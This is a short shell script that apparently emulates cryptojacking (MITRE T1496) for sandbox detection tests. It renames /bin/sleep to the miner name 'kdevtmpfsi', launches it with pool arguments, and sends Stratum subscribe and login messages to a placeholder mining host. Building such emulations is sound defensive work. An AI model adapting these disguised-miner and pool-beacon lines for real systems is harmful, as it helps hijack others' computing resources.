#!/bin/sh
# technique: T1496
# needs: python3
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cp /bin/sleep ./kdevtmpfsi; ./kdevtmpfsi 1 -o stratum+tcp://pool.example.com:3333 -u 44decoy -p x --donate-level=1; python3 - <<'EOF'
import json, socket
s = socket.create_connection(("203.0.113.7", 3333), 3)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmr/1.0"]}).encode() + b"\n")
s.sendall(json.dumps({"id": 2, "method": "login", "params": {"login": "44decoy", "pass": "x", "agent": "XMRig"}}).encode() + b"\n")
EOF
